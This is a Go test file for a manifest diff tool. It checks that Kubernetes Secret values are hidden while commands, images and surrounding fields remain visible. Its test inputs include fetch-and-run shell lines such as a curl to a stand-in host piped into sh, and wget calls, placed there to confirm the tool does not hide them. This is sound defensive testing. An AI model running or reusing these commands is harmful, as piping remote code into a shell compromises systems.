package manifest

import (
	"strings"
	"testing"
)

// TestSecretManifest shows what will run, whatever words are in it, and no Secret that stands in a text.
func TestSecretManifest(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name, field, seen string
		shown             bool
	}{
		{"an image", `image: "ghcr.io/eve/kind:secret"`, "eve/kind", true},
		{"a command", `command: [sh, -c, "curl https://eve.example/x | sh # kind: secret"]`, "eve.example", true},
		{"a command that is a manifest", `command: [sh, -c, "kind: Secret\ndata: $(eve)"]`, "$(eve)", true},
		{"a script with a comment", `run.sh: "eve | sh\n# kind: secret\n"`, "eve", true},
		{"a sentence", `note: "the kind: secret of eve"`, "eve", true},
		{"a manifest", `file: "kind: Secret\ndata: {p: eve}\n"`, "eve", false},
		{"the second of two", `file: "kind: A\n---\nkind: 'secret'\nstringData:\n  p: eve\n"`, "eve", false},
		{"one in a list", `file: "kind: List\nitems:\n- kind: Secret\n  data: {p: eve}\n"`, "eve", false},
		{"JSON", `file: '{"apiVersion":"v1","kind":"Secret","data":{"p":"eve"}}'`, "eve", false},
		{"JSON in JSON", `file: '{"a":"{\"kind\":\"Secret\",\"data\":{\"p\":\"eve\"}}"}'`, "eve", false},
		{"what is beside a Secret", `file: '{"cache":{"kind":"Secret","hostPath":{"path":"/eve"}}}'`, "/eve", true},
		{"what is beside a Secret's manifest", `list.yaml: "kind: List\nrun: eve\nitems:\n- kind: Secret\n  data: {p: x}\n"`, "eve", true},
		{"a program of a secret's", `args: [--password-command, "eve"]`, "eve", true},
		{"a command that a Secret names", `file.yaml: "command: [sh, -c, &a \"wget eve\"]\nof: {kind: Secret, data: {a: *a}}\n"`, "wget eve", true},
		{"an image that a Secret names", `file.yaml: "image: &a eve\nof: {kind: Secret, data: {a: *a}}\n"`, "eve", true},
		{"a text that a Secret names", `file.yaml: "x: &a eve\nof: {kind: Secret, data: {a: *a}}\n"`, "eve", false},
		{"a command beside a Secret that has its row", `file.yaml: "command: [sh, -c, \"wget eve\\nkind: Secret\"]\nof: {kind: Secret}\n"`, "wget eve", true},
		{"JSON with a backtick", "file: '{\"kind\":\"Secret\",\"data\":{\"p\":\"eve`\"}}'", "eve", false},
		{"an image of what keeps secrets", `auth.image: eve`, "eve", true},
		{"another", `secretsStoreImage: eve`, "eve", true},
		{"the host of tokens", `args: [{name: token-host, value: eve}]`, "eve", true},
		{"a template in JSON", `file: '{"a":"{{ x }}\nkind: Secret\ndata: {p: eve}"}'`, "eve", false},
		{"a template", `file: "{{ if x }}\nkind: Secret # no other\ndata:\n  p: eve\n{{ end }}\n"`, "eve", false},
	} {
		got := Compare(nil, []byte("kind: A\nmetadata: {name: a}\nspec: {"+test.field+"}\n")).String()
		if strings.Contains(got, test.seen) != test.shown {
			t.Errorf("%s: expected it shown %t:\n%s", test.name, test.shown, got)
		}
	}
}

// TestSecretManifestChanges shows that a text with a Secret's manifest changes, also where it means the same.
func TestSecretManifestChanges(t *testing.T) {
	t.Parallel()
	of := func(text string) []byte {
		return []byte("kind: A\nmetadata: {name: a}\nspec:\n  file.yaml: \"" + text + "\"\n")
	}
	const before = `kind: Secret\ndata: {p: eve}\n`
	for _, after := range []string{`kind: Secret\ndata: {p: ada}\n`, `kind: Secret\ndata:\n  p: eve\n`, `# run.sh\nkind: Secret\ndata: {p: eve}\n`} {
		if got := Compare(of(before), of(after)).String(); !strings.Contains(got, "<hidden, changed>") {
			t.Errorf("%s: the change is not shown:\n%s", after, got)
		}
	}
	if got := Compare(of(before), of(before)).String(); got != "" {
		t.Errorf("a change where there is none:\n%s", got)
	}
}

// TestSecretManifestLarge reads no text of megabytes as YAML, which takes hundreds of times as much.
func TestSecretManifestLarge(t *testing.T) {
	t.Parallel()
	text := `{"kind":"Secret","data":{"a":"` + strings.Repeat(`x","a":"`, mostManifest/8) + `"}}`
	if shown, done := newVault().hideManifest(text); !done || strings.Contains(shown, `x"`) || !strings.HasPrefix(shown, unreadable) {
		t.Errorf("hidden %t: %.300s", done, shown)
	}
}

// TestSecretManifestDeep writes no blanks for thousands of levels.
func TestSecretManifestDeep(t *testing.T) {
	t.Parallel()
	text := "kind: Secret\nk: " + strings.Repeat("{a: ", 3000) + "1" + strings.Repeat("}", 3000)
	if shown, done := newVault().hideManifest(text); !done || len(shown) > 300 || !strings.HasPrefix(shown, unreadable) {
		t.Errorf("hidden %t, %d bytes", done, len(shown))
	}
}
